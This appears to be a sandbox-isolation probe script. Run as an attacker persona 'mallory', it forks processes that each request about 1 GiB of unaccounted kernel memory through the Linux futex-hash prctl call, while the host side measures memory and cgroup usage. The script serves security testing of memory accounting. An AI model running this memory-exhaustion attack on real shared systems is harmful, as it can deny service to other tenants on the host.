"""a04: prctl(PR_FUTEX_HASH, PR_FUTEX_HASH_SET_SLOTS, n) (Linux 6.16) makes a process's private futex hash of n
buckets: a03 found 16,777,216 slots accepted in a sandbox (about 1 GiB of kernel memory at 64 bytes a bucket).
Is that memory charged to the sandbox's memory cgroup? mallory's cell: NPROC processes each set 2^24 slots, then
hold 40 s. Host side: mallory's memcg usage and the host's MemAvailable, every second."""
import sys, threading, time, glob, os
from common import *
NPROC = int(sys.argv[1]) if len(sys.argv) > 1 else 1
SLOTS = int(sys.argv[2]) if len(sys.argv) > 2 else 1 << 24
CODE = f'''
q1 = "b"
import ctypes, os, time, errno
libc = ctypes.CDLL(None, use_errno=True)
def avail():
    for l in open("/proc/meminfo"):
        if l.startswith("MemAvailable"): return int(l.split()[1]) >> 10
print("MemAvailable seen inside before:", avail(), "MiB")
pids = []
for i in range({NPROC}):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        res = libc.prctl(78, 1, {SLOTS}, 0, 0)
        os.write(w, f"{{res}} {{ctypes.get_errno()}} {{libc.prctl(78, 2, 0, 0, 0)}}".encode())
        time.sleep(40); os._exit(0)
    os.close(w); print("child", i, "set/get:", os.read(r, 100).decode()); pids.append(pid)
print("MemAvailable seen inside after:", avail(), "MiB")
for p in pids: os.waitpid(p, 0)
'''
samples = []; stop = [False]
def sampler():
    while not stop[0]:
        ma = [int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.startswith("MemAvailable")][0]
        sl = [int(l.split()[1]) >> 10 for l in open("/proc/meminfo") if l.startswith(("VmallocUsed",))][0]
        groups = {}
        for g in glob.glob((__import__("os").environ.get("ATTACK_MEMORY_CGROUP") or "/sys/fs/cgroup/memory" + [l.split(":", 2)[2].strip() for l in open("/proc/self/cgroup") if ":memory:" in l][0]) + "/distcourse-sandbox-*"):
            try: groups[os.path.basename(g)[-6:]] = int(open(g + "/memory.usage_in_bytes").read()) >> 20
            except OSError: pass
        samples.append((round(time.time() - t0, 1), ma, sl, groups)); time.sleep(1)
t0 = time.time()
threading.Thread(target=sampler, daemon=True).start()
c = probe_run("a04", CODE, others=("aaron", "zoe"))
stop[0] = True
times(c)
print("t  MemAvailable_MiB  VmallocUsed_MiB  sandbox memcg usage MiB")
for s in samples[::2]:
    print(*s)
